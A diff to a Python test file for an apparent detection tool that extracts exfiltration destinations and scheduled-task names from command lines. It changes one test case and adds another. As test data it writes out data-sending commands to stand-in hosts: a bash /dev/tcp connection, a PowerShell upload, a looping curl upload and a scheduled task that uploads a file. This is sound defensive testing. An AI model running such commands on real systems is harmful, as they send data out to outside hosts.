@@ -49,7 +49,7 @@ def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_
         ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u"),
         ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444"),
         ("scp -r /data anna@files.example:/in", "anna@files.example:/in"),
-        ("curl ftp://a.example/ ftp://a.example/ sftp://b.example/", "ftp://a.example/, sftp://b.example/"),
+        ("while true; do curl -T a http://files.example/in; done", "http://files.example/in"),
         ("tar cf a.tar /home", None),
     ],
 )
@@ -101,15 +101,23 @@ def test_a_tasks_name_is_read_from_schtasks(command, task):
     assert facts(make("a", CommandLine=command)).task == task
 
 
+def test_each_destination_is_named_once():
+    found = facts(make("a", CommandLine="curl ftp://a.example/ ftp://a.example/, sftp://b.example/"))
+    assert (found.destinations, found.destination) == (("ftp://a.example/", "sftp://b.example/"), "ftp://a.example/")
+
+
 def test_a_registered_task_says_its_name_and_where_it_sends():
     finding = make("a").model_copy(
         update={
             "events": [make("a").events[0].model_copy(update={"category": "", "fields": {}})],
-            "fields": {"TaskName": "\\Collect", "TaskContent": "<Exec>curl -T a https://files.example/</Exec>"},
+            "fields": {
+                "TaskName": "\\Collect",
+                "TaskContent": '<Task xmlns="http://schemas.microsoft.com/x">curl -T a https://files.example/</Task>',
+            },
         }
     )
     found = facts(finding)
-    assert (found.task, found.destination, found.program) == ("\\Collect", "https://files.example/", None)
+    assert (found.task, found.destinations, found.program) == ("\\Collect", ("https://files.example/",), None)
     assert found.content is not None
 
 
